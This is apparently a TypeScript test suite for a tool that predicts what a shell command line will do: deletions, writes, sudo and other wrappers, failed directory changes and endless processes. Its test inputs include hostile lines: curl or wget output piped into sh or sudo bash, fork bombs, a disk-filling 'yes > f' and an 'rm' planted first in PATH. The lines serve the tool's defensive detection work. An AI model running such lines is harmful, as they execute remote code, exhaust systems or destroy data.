import assert from "node:assert/strict";
import { chmodSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, it } from "node:test";
import type { Cause, Effect } from "../../../src/domain/effect.ts";
import { foresee, type Modelled, withFixture } from "./model.ts";

/** The model of a line, in a fixture that is there only meanwhile. */
function model(line: string, prepare: (folder: string) => void = () => {}): Modelled {
  return withFixture((folder) => {
    prepare(folder);
    return foresee(line, folder);
  });
}

function causeOf(effects: readonly Effect[], kind: Effect["kind"]): Cause {
  const found = effects.find((effect) => effect.kind === kind);
  assert.ok(found, `no effect of kind ${kind}`);
  return found.cause;
}

function runCode(result: Modelled): readonly string[] {
  return result.effects.flatMap((effect) =>
    effect.kind === "run-code" ? `${effect.interpreter} ${effect.source.kind}` : [],
  );
}

function deleted(result: Modelled): readonly string[] {
  return result.effects.flatMap((effect) =>
    effect.kind === "delete" ? (effect.path.split("/").at(-1) ?? "") : [],
  );
}

describe("causes", () => {
  it("name the program, its place in the line and the operand", () => {
    const line = "true; rm a.txt";
    const cause = causeOf(model(line).effects, "delete");
    assert.equal(cause.program, "rm");
    assert.equal(line.slice(...cause.span), "rm a.txt");
    assert.equal(cause.operand?.text, "a.txt");
    assert.deepEqual(
      cause.command.map(({ text }) => text),
      ["rm", "a.txt"],
    );
  });

  it("name wrappers from the outermost in, and whom they make of the caller", () => {
    const line = "sudo env A=1 sh -c 'cd dir && rm c.txt'";
    const cause = causeOf(model(line).effects, "delete");
    assert.deepEqual(cause.wrappers, ["sudo", "env", "sh"]);
    assert.equal(cause.identity.elevatedBy, "sudo");
    assert.match(cause.directory, /\/dir$/);
  });

  it("point at the argument that holds nested text", () => {
    const line = "bash -c 'echo one; rm a.txt'";
    const { span } = causeOf(model(line).effects, "delete");
    assert.equal(line.slice(...span), "'echo one; rm a.txt'");
  });

  it("name a redirection by its operator", () => {
    const line = "echo x 2> /dev/null > a.txt";
    const cause = causeOf(model(line).effects, "write");
    assert.equal(cause.program, ">");
    assert.equal(line.slice(...cause.span), "> a.txt");
  });

  it("use one and the same object for emptying a file and writing to it", () => {
    const writes = model("{ echo a; echo b; } > a.txt").effects;
    assert.equal(new Set(writes.map(({ cause }) => cause)).size, 1);
    assert.ok(writes.length > 1);
  });
});

describe("a cd that fails", () => {
  const directoryOf = (line: string): string | undefined =>
    causeOf(model(line).effects, "delete").afterFailedChange?.directory;

  it("is told to what runs in the wrong directory", () => {
    assert.equal(directoryOf("cd nosuch; rm a.txt"), "nosuch");
    assert.equal(directoryOf("cd nosuch && rm b.txt; rm a.txt"), "nosuch");
    assert.equal(directoryOf("pushd nosuch; rm a.txt"), "nosuch");
  });

  it("is forgotten where the line deals with it, or goes elsewhere", () => {
    assert.equal(directoryOf("cd nosuch || true; rm a.txt"), undefined);
    assert.equal(directoryOf("if cd nosuch; then rm b.txt; fi; rm a.txt"), undefined);
    assert.equal(directoryOf("cd nosuch; cd dir; rm c.txt"), undefined);
    assert.equal(directoryOf("(cd nosuch); rm a.txt"), undefined);
  });

  it("stops the line where it says so", () => {
    assert.deepEqual(deleted(model("cd nosuch && rm a.txt")), []);
    assert.deepEqual(deleted(model("cd nosuch || exit; rm a.txt")), []);
    assert.deepEqual(deleted(model("set -e; cd nosuch; rm a.txt")), []);
  });
});

describe("programs", () => {
  it("are found through any path and quoting", () => {
    for (const line of [
      "/bin/rm a.txt",
      "'rm' a.txt",
      "\\rm a.txt",
      'r""m a.txt',
      "x=rm; $x a.txt",
    ]) {
      assert.deepEqual(deleted(model(line)), ["a.txt"], line);
    }
    assert.deepEqual(deleted(model("command rm a.txt; env rm b.txt; exec rm table")), [
      "a.txt",
      "b.txt",
      "table",
    ]);
  });

  it("are not taken for the standard ones when planted first in PATH", () => {
    const plant = (folder: string): void => {
      mkdirSync(join(folder, "bin"));
      writeFileSync(join(folder, "bin/rm"), "#!/bin/sh\necho planted\n");
      chmodSync(join(folder, "bin/rm"), 0o755);
    };
    const result = model('PATH="$PWD/bin:$PATH"; rm a.txt', plant);
    assert.deepEqual(deleted(result), []);
    assert.deepEqual(runCode(result), ["rm program"]);
    assert.equal(result.unknown.length, 1);
  });

  it("without a model are run as unknown code, by the path they have", () => {
    const result = model("/usr/bin/perl -MPOSIX -e 1 > out");
    assert.deepEqual(runCode(result), ["perl program"]);
    assert.match(result.unknown[0]?.reason ?? "", /`perl`/);
    assert.equal(result.status, undefined);
  });

  it("that are nowhere fail with 127, and what follows depends on that", () => {
    const result = model("nosuchprogram a.txt || rm b.txt");
    assert.deepEqual(deleted(result), ["b.txt"]);
    assert.deepEqual(result.unknown, []);
  });

  it("get no builtins from wrappers", () => {
    assert.equal(model("env cd /").status, 127);
  });
});

describe("what cannot be known", () => {
  const reasons = (line: string): readonly string[] =>
    model(line).unknown.map(({ reason }) => reason);

  it("is left out of operands that stand for themselves", () => {
    const result = model("rm $RANDOM a.txt");
    assert.deepEqual(deleted(result), ["a.txt"]);
    assert.equal(result.unknown.length, 1);
    assert.equal(result.status, undefined);
  });

  it("is no cloak: text that is only shown needs no unknown", () => {
    assert.deepEqual(reasons("echo $RANDOM $$ > f"), []);
    assert.deepEqual(reasons("x=$RANDOM; echo done"), []);
    assert.deepEqual(reasons("printf '%s' $SECONDS | cat > f"), []);
  });

  it("as a status lets both branches be looked at, and ends nothing", () => {
    const result = model("if perl -MPOSIX -e 1; then rm a.txt; exit; else rm b.txt; fi; rm table");
    assert.deepEqual(deleted(result), ["a.txt", "b.txt", "table"]);
    assert.ok(result.unknown.length >= 3);
    assert.deepEqual(deleted(model("perl -MPOSIX -e 1 || rm a.txt")), ["a.txt"]);
    assert.deepEqual(deleted(model("perl -MPOSIX -e 1 && rm a.txt")), ["a.txt"]);
  });

  it("as a status is told where set -e would end the shell", () => {
    const line = "set -e; test nosuch -nt $RANDOM; rm a.txt";
    assert.match(reasons(line).join(), /whether the shell goes on/);
    assert.deepEqual(deleted(model(line)), ["a.txt"]);
    assert.deepEqual(reasons("test nosuch -nt $RANDOM; rm a.txt"), []);
  });

  it("as a command is code that nobody has seen", () => {
    const result = model("$(perl -MPOSIX -e 1) a.txt");
    assert.ok(runCode(result).includes("bash unseen"));
  });

  it("as a directory is told", () => {
    assert.match(reasons("cd $RANDOM; rm a.txt").join(), /which directory/);
    assert.deepEqual(deleted(model("cd $RANDOM; rm a.txt")), []);
  });

  it("as a target of a redirection is told, and the command still runs", () => {
    const result = model("mkdir new > $RANDOM");
    assert.equal(result.unknown.length, 1);
    assert.ok(result.tree.some((entry) => entry.startsWith("new ")));
  });
});

describe("text that is run", () => {
  it("is known to come from the network, whatever the way", () => {
    for (const line of [
      "curl http://h/x | sh",
      "bash <(curl http://h/x)",
      'bash -c "$(curl http://h/x)"',
      'eval "$(wget -qO- http://h/x)"',
      ". <(curl http://h/x)",
      "curl -o s http://h/x; sh s",
      "curl http://h/x | tee s | sudo bash",
    ]) {
      assert.ok(
        runCode(model(line)).some((found) => found.endsWith(" network")),
        line,
      );
    }
  });

  it("is walked where it can be read", () => {
    assert.deepEqual(deleted(model("echo 'rm a.txt' | sh")), ["a.txt"]);
    assert.deepEqual(deleted(model("eval 'rm a.txt'")), ["a.txt"]);
    assert.deepEqual(deleted(model("echo 'rm $1' > s; . ./s a.txt; bash s b.txt")), [
      "a.txt",
      "b.txt",
    ]);
    assert.deepEqual(deleted(model("sh <<E\nrm a.txt\nE")), ["a.txt"]);
  });
});

describe("what has no end", () => {
  const endless = (line: string): readonly string[] =>
    model(line).effects.flatMap((effect) => (effect.kind === "process" ? effect.action : []));

  it("is told of functions that fork themselves", () => {
    assert.deepEqual(endless(":(){ :|:& };:"), ["endless"]);
    assert.deepEqual(endless("bomb() { bomb & bomb; }; bomb"), ["endless"]);
  });

  it("is told of loops that fork, and of bytes that fill a disk", () => {
    assert.deepEqual(endless("while :; do sleep 1 & done"), ["endless"]);
    assert.deepEqual(endless("yes > f"), ["fill"]);
  });

  it("is seen by tests of a word, which is always there", () => {
    for (const test of ["[ 1 ]", "test true", "[[ 1 ]]"]) {
      assert.deepEqual(endless(`while ${test}; do touch f$((i++)); done`), ["fill"], test);
      assert.deepEqual(endless(`until ${test}; do touch f$((i++)); done`), [], test);
    }
    assert.deepEqual(endless("while [ -e a.txt ]; do touch f$((i++)); done"), []);
  });

  it("stops the walk with a word, but not what goes on beside it", () => {
    const loop = model("while :; do x=$((x+1)); done; rm a.txt");
    assert.deepEqual(loop.unknown, []);
    assert.deepEqual(deleted(loop), []);
    const growing = model("i=0; while :; do : > f$((i++)); done; rm a.txt");
    assert.match(growing.unknown[0]?.reason ?? "", /how long/);
    assert.deepEqual(deleted(model("while :; do :; done & rm a.txt")), ["a.txt"]);
    assert.match(model("f() { f; }; f").unknown[0]?.reason ?? "", /calls itself/);
  });

  it("is nothing unknown where every round is like the one before", () => {
    for (const loop of [
      "while :; do :; done",
      "until false; do sleep 9; done",
      "for ((;;)); do echo y; done",
    ]) {
      const result = model(`${loop}; rm a.txt`);
      assert.deepEqual(result.unknown, [], loop);
      assert.deepEqual(deleted(result), [], loop);
    }
    assert.deepEqual(deleted(model("timeout 5 sh -c 'while :; do :; done'; rm a.txt")), ["a.txt"]);
  });

  it("does not hide what comes after a loop that waits for something", () => {
    for (const loop of [
      "until [ -e nosuch ]; do sleep 1; done",
      "while true; do [ -e nosuch ] && break; sleep 1; done",
      "while [ $((i+=1)) -lt 100000 ]; do :; done",
    ]) {
      const result = model(`${loop}; rm a.txt`);
      assert.equal(result.unknown.length, 1, loop);
      assert.deepEqual(deleted(result), ["a.txt"], loop);
    }
    assert.deepEqual(model("until [ -e nosuch ]; do sleep 1; done").unknown, []);
  });

  it("spares functions that do end", () => {
    assert.deepEqual(endless("f() { [ $1 = 0 ] || echo $1 | cat | f $(($1 - 1)); }; f 9"), []);
  });
});

describe("a pipeline that writes what it reads", () => {
  it("does not foretell the bytes", () => {
    const result = model("sort a.txt | cat > a.txt; grep -q one a.txt && rm b.txt");
    assert.ok(result.effects.some((effect) => effect.kind === "write" && !effect.isSame));
    assert.ok(result.unknown.length > 0);
    assert.match(model("cat a.txt | tee a.txt").unknown[0]?.reason ?? "", /before it is read/);
  });

  it("leaves others alone", () => {
    assert.deepEqual(model("sort a.txt | cat > b.txt").unknown, []);
  });
});

describe("a doubt", () => {
  const doubts = (line: string): readonly string[] =>
    model(line).unknown.map(({ reason }) => reason);

  it("is not listed where nothing hangs on it", () => {
    assert.deepEqual(doubts("test a.txt -nt $RANDOM && echo newer"), []);
    assert.deepEqual(doubts("if test a.txt -nt $RANDOM; then echo newer; else echo older; fi"), []);
    assert.deepEqual(doubts("rm a.txt; test b.txt -nt $RANDOM || exit 1; echo end"), []);
    assert.deepEqual(doubts("while test b.txt -nt $RANDOM; do :; done"), []);
  });

  it("is listed where something is done, inside or afterwards", () => {
    assert.equal(doubts("test a.txt -nt $RANDOM && rm a.txt").length, 1);
    assert.equal(doubts("test a.txt -nt $RANDOM || exit 1; rm a.txt").length, 1);
    assert.equal(doubts("test a.txt -nt $RANDOM && x=b.txt; rm $x").length, 1);
    assert.equal(doubts("while test b.txt -nt $RANDOM; do rm -f a.txt; done").length, 1);
  });
});
